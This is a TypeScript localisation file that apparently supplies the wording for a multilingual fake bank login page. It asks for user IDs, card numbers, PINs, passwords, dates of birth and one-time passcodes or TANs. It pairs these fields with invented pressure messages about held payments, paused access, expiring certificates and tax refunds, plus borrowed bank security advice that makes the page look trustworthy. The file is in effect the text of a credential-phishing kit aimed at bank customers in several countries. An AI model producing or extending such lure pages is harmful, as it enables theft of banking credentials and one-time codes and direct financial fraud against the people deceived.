import { type BankWords, links, type Tongue } from './bank-words.ts'
import { it, ja, nl, pl, pt, sv } from './other-languages.ts'

export type { BankWords, Tongue }

const en: BankWords = {
  signIn: 'Log in to online banking',
  user: ['Membership number', 'User ID', 'Customer number'],
  taxId: 'Government Gateway user ID',
  card: 'Debit card number',
  pin: 'PIN',
  password: 'Password',
  born: 'Date of birth',
  tan: 'One-time passcode',
  tanSent: 'We have texted a passcode to the mobile we hold for you.',
  app: 'Open the app on your phone and approve the request.',
  wait: 'Do not close this window while we finish checking.',
  next: 'Continue',
  why: [
    'A new device was added to your account today. If this was not you, log in to cancel it.',
    'Online access has been paused. Re-register your phone to lift the restriction.',
    'A payment of 849.00 is on hold. Log in to review it.',
  ],
  whyTax: [
    'A refund of 318.42 is due to you. Log in to choose where it is paid.',
    'Your account has an outstanding notice that must be answered by today.',
  ],
  advice: 'We will never ask you to tell anyone a passcode, or to move money to keep it safe.',
  links: links('Register|Forgotten your details?|Security|Cookies|Accessibility'),
}
const de: BankWords = {
  signIn: 'Anmelden zum Online-Banking',
  user: ['Anmeldename oder Legitimations-ID', 'Teilnehmernummer', 'VR-NetKey oder Alias', 'Zugangsnummer'],
  taxId: 'Steuer-Identifikationsnummer',
  card: 'Kartennummer (girocard)',
  pin: 'PIN',
  password: 'Passwort',
  born: 'Geburtsdatum',
  tan: 'TAN',
  tanSent: 'Wir haben eine TAN an Ihre hinterlegte Mobilfunknummer gesendet.',
  app: 'Bitte geben Sie den Auftrag jetzt in Ihrer pushTAN-App frei.',
  wait: 'Bitte schließen Sie dieses Fenster nicht.',
  next: 'Weiter',
  why: [
    'Ihr pushTAN-Verfahren läuft ab. Bitte aktualisieren Sie Ihre Daten, sonst wird der Zugang gesperrt.',
    'Aufgrund neuer EU-Richtlinien müssen Sie sich erneut legitimieren.',
    'Eine Überweisung über 1.240,00 EUR wurde angehalten.',
  ],
  whyTax: [
    'Ihnen steht eine Rückerstattung von 268,48 EUR zu. Bitte wählen Sie Ihre Bank.',
    'Ihr Zertifikat läuft ab. Ohne Bestätigung wird Ihr Konto gelöscht.',
  ],
  advice: 'Wir fragen Sie niemals per E-Mail oder Telefon nach PIN oder TAN.',
  links: links('Impressum|Datenschutz|AGB|Sicherheit|Zugangsdaten vergessen'),
}
const fr: BankWords = {
  signIn: 'Accéder à mes comptes',
  user: ['Identifiant', 'Numéro client', 'Code client à 8 chiffres'],
  taxId: 'Numéro fiscal',
  card: 'Numéro de carte bancaire',
  pin: 'Code personnel',
  password: 'Mot de passe',
  born: 'Date de naissance',
  tan: 'Code reçu par SMS',
  tanSent: 'Un code vous a été envoyé par SMS.',
  app: 'Validez la demande dans votre application mobile.',
  wait: 'Merci de patienter, ne fermez pas cette page.',
  next: 'Valider',
  why: [
    'Votre Certicode Plus doit être réactivé pour continuer à utiliser votre carte.',
    'Un nouvel appareil a été ajouté à votre espace client. Annulez si ce n’est pas vous.',
  ],
  whyTax: [
    'Après calcul, vous bénéficiez d’un remboursement de 185,60 €.',
    'Votre carte arrive à expiration. Mettez vos informations à jour pour rester remboursé.',
  ],
  advice: 'Nous ne vous demanderons jamais vos codes par téléphone ni par SMS.',
  links: links('Mentions légales|Données personnelles|Sécurité|Aide|Accessibilité : non conforme'),
}
const es: BankWords = {
  signIn: 'Acceso clientes',
  user: ['NIF o usuario', 'Identificador', 'DNI, NIE o tarjeta'],
  taxId: 'NIF y referencia',
  card: 'Número de tarjeta',
  pin: 'PIN',
  password: 'Clave de acceso',
  born: 'Fecha de nacimiento',
  tan: 'Código SMS',
  tanSent: 'Le hemos enviado un código por SMS.',
  app: 'Autorice la operación en la aplicación de su móvil.',
  wait: 'Espere, no cierre esta ventana.',
  next: 'Entrar',
  why: [
    'Su cuenta ha sido limitada por un acceso no reconocido. Verifique sus datos.',
    'Tiene un cargo de 654,90 € pendiente. Si no lo reconoce, anúlelo aquí.',
  ],
  whyTax: [
    'Tiene una devolución pendiente de 411,20 €.',
    'Consulte su notificación administrativa antes de que caduque.',
  ],
  advice: 'Nunca le pediremos sus claves completas ni códigos por teléfono.',
  links: links('Aviso legal|Privacidad|Seguridad|Accesibilidad|¿Olvidó su clave?'),
}
export const BANK_WORDS: Readonly<Record<Tongue, BankWords>> = { en, de, fr, es, it, pt, nl, pl, ja, sv }
